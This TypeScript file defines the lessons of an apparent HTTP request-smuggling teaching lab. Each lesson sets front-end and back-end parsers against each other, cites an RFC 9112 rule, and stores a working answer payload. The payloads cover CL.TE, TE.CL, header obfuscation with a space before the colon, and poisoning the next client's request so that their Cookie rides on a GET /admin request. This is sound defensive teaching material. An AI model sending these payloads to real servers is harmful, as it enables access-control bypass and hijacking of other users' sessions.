// The lab's lessons: each names a pair, a starting input that does not meet its goal, a goal the
// chain checks, and a stored answer that meets it (tests/unit/lab-lessons.test.ts solves every
// lesson with its answer, and the Playwright suite types each answer). Only lessons whose goal
// the real parsers let someone reach are here; where the classic attack fails on these parsers,
// the lesson's goal is to see why.

import { analyze } from '../analysis.ts';
import { latin1Bytes } from '../bytes.ts';
import type { ErrorInfo } from '../types.ts';
import type { ChainResult, Forwarding } from './chain.ts';

/** What a lesson asks for. */
export type GoalKind =
  /** The back end reads a whole request whose first byte the front end forwarded inside another. */
  | 'hidden-request'
  /** The victim's next request is read behind what the attacker left. */
  | 'poison-victim'
  /** The front end forwards a request with both Content-Length and Transfer-Encoding, and the back end frames it alike. */
  | 'both-framings-agree';

export interface Lesson {
  id: string;
  title: string;
  /** The rule broken or relied on, with its RFC section. */
  rule: string;
  /** The RFC section's link. */
  rfcUrl: string;
  /** What happens and why, in a few sentences. */
  explanation: string;
  front: string;
  back: string;
  forwarding: Forwarding;
  goal: GoalKind;
  /** The goal in words. */
  goalText: string;
  /** The input the lesson starts with (does not meet the goal). */
  start: string;
  /** A stored answer (meets the goal). */
  answer: string;
  /** Said once the goal is met: why it works. */
  afterword: string;
}

const SMUGGLED = 'GET /admin HTTP/1.1\r\nHost: shop.example\r\n\r\n';
const POST = 'POST /search HTTP/1.1\r\nHost: shop.example\r\n';
/** An empty chunked body (its last chunk and the end of its trailer section), then the hidden request: 48 bytes. */
const CHUNKS_THEN_SMUGGLED = '0\r\n\r\n' + SMUGGLED;
/** The unfinished request of the poisoning lesson: the victim's request line becomes the value of X. */
const PREFIX = 'GET /admin HTTP/1.1\r\nX:';
const RFC9112 = 'https://www.rfc-editor.org/rfc/rfc9112';

const GOAL_TEXT: Record<GoalKind, string> = {
  'hidden-request': 'Make the back end read a whole second request that the front end did not forward as one.',
  'poison-victim': 'Leave a prefix behind so that the back end reads the next client’s request (GET /account) as something else.',
  'both-framings-agree':
    'Send a request with both Content-Length and Transfer-Encoding that the front end forwards; watch how the back end frames it.',
};

function lesson(l: Omit<Lesson, 'goalText'>): Lesson {
  return { ...l, goalText: GOAL_TEXT[l.goal] };
}

export const LESSONS: readonly Lesson[] = [
  lesson({
    id: 'cl-te',
    title: 'CL.TE: Content-Length in front, Transfer-Encoding behind',
    rule: 'RFC 9112 6.3: a message with both Transfer-Encoding and Content-Length is framed by Transfer-Encoding; a server may reject it, and must close the connection after it.',
    rfcUrl: `${RFC9112}#section-6.3`,
    explanation:
      'The 2019 attack: the front end frames the body by Content-Length and forwards the chunked bytes after it, the back end frames it by chunked, so the bytes after the empty last chunk become the next request. It needs a front end that lets Content-Length win. None of these parsers does: llhttp with --insecure-http-parser, httparse, picohttpparser and Go all let Transfer-Encoding win, and strict httpspan and llhttp refuse the message.',
    front: 'llhttp-insecure',
    back: 'go',
    forwarding: 'raw',
    goal: 'both-framings-agree',
    start: POST + 'Content-Length: 5\r\n\r\nhello',
    answer: POST + 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + SMUGGLED,
    afterword:
      'Both ends frame the body by chunked, as RFC 9112 says, so the hidden request is forwarded as a request of its own and both sides agree: no desync. The attack needs a parser that prefers Content-Length, which these are not.',
  }),
  lesson({
    id: 'te-cl',
    title: 'TE.CL: Transfer-Encoding in front, Content-Length behind',
    rule: 'RFC 9112 6.3: Transfer-Encoding overrides Content-Length; a sender must not send both.',
    rfcUrl: `${RFC9112}#section-6.3`,
    explanation:
      'The mirror image: the front end decodes chunked and forwards it all, the back end reads only Content-Length bytes and takes the rest of the chunked body as the next request. Here too the back end would have to let Content-Length win; httparse (hyper’s rules) and picohttpparser’s caller both let chunked win.',
    front: 'httparse',
    back: 'picohttpparser',
    forwarding: 'raw',
    goal: 'both-framings-agree',
    start: POST + 'Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    answer: POST + `Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${SMUGGLED.length.toString(16)}\r\n` + SMUGGLED + '\r\n0\r\n\r\n',
    afterword:
      'Both read the chunk of 0x2c bytes as body: the request inside it never becomes one. Content-Length is ignored by both, so the two framings never split.',
  }),
  lesson({
    id: 'http10-te',
    title: 'HTTP/1.0 with Transfer-Encoding',
    rule: 'RFC 9112 6.1: a server that receives a request message with a transfer coding whose version is HTTP/1.0 must treat it as faulty (HTTP/1.0 has no Transfer-Encoding) and close the connection after it.',
    rfcUrl: `${RFC9112}#section-6.1`,
    explanation:
      'Go’s server ignores Transfer-Encoding in an HTTP/1.0 request and frames the body by Content-Length. llhttp, even under --insecure-http-parser, decodes the chunked body, and lenient, it lets Transfer-Encoding win over Content-Length. A keep-alive HTTP/1.0 request carrying both is one request to Go and two to Node.',
    front: 'go-server',
    back: 'llhttp-insecure',
    forwarding: 'raw',
    goal: 'hidden-request',
    start: `POST /search HTTP/1.0\r\nHost: shop.example\r\nConnection: keep-alive\r\nContent-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    answer: `POST /search HTTP/1.0\r\nHost: shop.example\r\nConnection: keep-alive\r\nContent-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nTransfer-Encoding: chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    afterword:
      'Go forwards the 48 bytes after the head as the body of one request; Node’s llhttp reads them as an empty chunked body and then GET /admin, a request the proxy never saw. Had Go’s server refused Transfer-Encoding in HTTP/1.0, as RFC 9112 asks, nothing would have reached Node.',
  }),
  lesson({
    id: 'te-space-before-colon',
    title: 'TE.TE: Transfer-Encoding hidden by a space before the colon',
    rule: 'RFC 9112 5.1: no whitespace is allowed between the field name and the colon; a server must reject such a request with 400, a proxy must remove the whitespace before forwarding.',
    rfcUrl: `${RFC9112}#section-5.1`,
    explanation:
      'Both ends understand Transfer-Encoding; the trick is to make only one of them see it. Go’s http.ReadRequest keeps "Transfer-Encoding " (with the space) as a field of another name and frames the body by Content-Length; llhttp under --insecure-http-parser drops the space and decodes chunked. (Go’s own http.Server refuses the name: the front end here is a proxy loop built on ReadRequest.)',
    front: 'go',
    back: 'llhttp-insecure',
    forwarding: 'raw',
    goal: 'hidden-request',
    start: POST + `Content-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nTransfer-Encoding: chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    answer: POST + `Content-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nTransfer-Encoding : chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    afterword:
      'With the space, Go no longer sees Transfer-Encoding and forwards 48 bytes of body; llhttp still does, ends the body at the empty last chunk and reads GET /admin as a request of its own.',
  }),
  lesson({
    id: 'ignored-field-line',
    title: 'A field line the front end ignores',
    rule: 'RFC 9112 5.1: no whitespace is allowed between the field name and the colon; a server must reject such a request with 400 (RFC 9110 5.1: a field name is a token).',
    rfcUrl: `${RFC9112}#section-5.1`,
    explanation:
      'httparse can be told to skip field lines it finds invalid (ParserConfig::ignore_invalid_headers_in_requests) rather than refuse the request. A proxy on hyper with that option drops "Transfer-Encoding : chunked" from its view and frames by Content-Length; a back end on Node with --insecure-http-parser keeps the line and decodes chunked.',
    front: 'httparse-lenient',
    back: 'llhttp-insecure',
    forwarding: 'raw',
    goal: 'hidden-request',
    start: POST + `Content-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nX-Note : chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    answer: POST + `Content-Length: ${CHUNKS_THEN_SMUGGLED.length}\r\nTransfer-Encoding : chunked\r\n\r\n` + CHUNKS_THEN_SMUGGLED,
    afterword:
      'httparse skipped the line, so the proxy forwarded 48 bytes of body; llhttp read the same line as Transfer-Encoding, ended the body at the empty last chunk and served GET /admin. Ignoring an invalid line is as dangerous as misreading it: the next parser may read it.',
  }),
  lesson({
    id: 'cl-space-before-colon',
    title: 'Content-Length with a space before the colon',
    rule: 'RFC 9112 5.1: no whitespace is allowed between the field name and the colon; a server must reject such a request with 400.',
    rfcUrl: `${RFC9112}#section-5.1`,
    explanation:
      'The same flaw the other way round: llhttp under --insecure-http-parser (and httpspan with its spaceBeforeColon option) reads "Content-Length : 43" as Content-Length; Go’s ReadRequest sees a field named "Content-Length " and a request without a body, so the body is the next request to Go.',
    front: 'llhttp-insecure',
    back: 'go',
    forwarding: 'raw',
    goal: 'hidden-request',
    start: POST + `Content-Length: ${SMUGGLED.length}\r\n\r\n` + SMUGGLED,
    answer: POST + `Content-Length : ${SMUGGLED.length}\r\n\r\n` + SMUGGLED,
    afterword:
      'Node forwards one request with a 43-byte body; Go reads a POST without a body and then the body as GET /admin. Behind Go’s http.Server the request is refused instead (400: invalid header name).',
  }),
  lesson({
    id: 'poison-victim',
    title: 'Poison the next visitor’s request',
    rule: 'RFC 9112 9.3: a server reads requests on a persistent connection one after another; whatever bytes remain after one request are the start of the next.',
    rfcUrl: `${RFC9112}#section-9.3`,
    explanation:
      'A hidden request that is complete only gets the attacker a response. Leave it unfinished instead: the back end waits for the rest of its head, and the next request the front end forwards on that connection, another client’s, completes it. Its Cookie then rides on the attacker’s request line.',
    front: 'llhttp-insecure',
    back: 'go',
    forwarding: 'raw',
    goal: 'poison-victim',
    start: POST + `Content-Length : ${SMUGGLED.length}\r\n\r\n` + SMUGGLED,
    answer: POST + `Content-Length : ${PREFIX.length}\r\n\r\n` + PREFIX,
    afterword:
      'Go reads "GET /admin HTTP/1.1", then a field line X: holding the victim’s request line, then the victim’s Host and Cookie: the victim’s session asks for /admin.',
  }),
];

/** Whether a chain result meets a lesson's goal. */
export function goalMet(goal: GoalKind, result: ChainResult): boolean {
  switch (goal) {
    case 'hidden-request':
      return result.verdict === 'desync' && result.desync !== null && result.desync.hidden.some((r) => r.complete);
    case 'poison-victim':
      return result.verdict === 'desync' && result.desync?.victim.outcome === 'poisoned';
    case 'both-framings-agree':
      return (
        result.verdict === 'agree' &&
        result.frontRequests.some((f) => {
          const names = f.message.headers.map(([n]) => n.toLowerCase());
          return names.includes('content-length') && names.includes('transfer-encoding');
        })
      );
  }
}

/** Why strict httpspan refuses `bytes` (the error with its byte), or null when it accepts them. */
export function strictRefusal(bytes: Uint8Array): ErrorInfo | null {
  return analyze(bytes, { mode: 'request', requestMethod: 'GET', lenient: [] }).error;
}

export function lessonById(id: string): Lesson | undefined {
  return LESSONS.find((l) => l.id === id);
}

/** A lesson's text input as bytes (the lessons are written in Latin-1). */
export const lessonBytes = (text: string): Uint8Array => latin1Bytes(text);
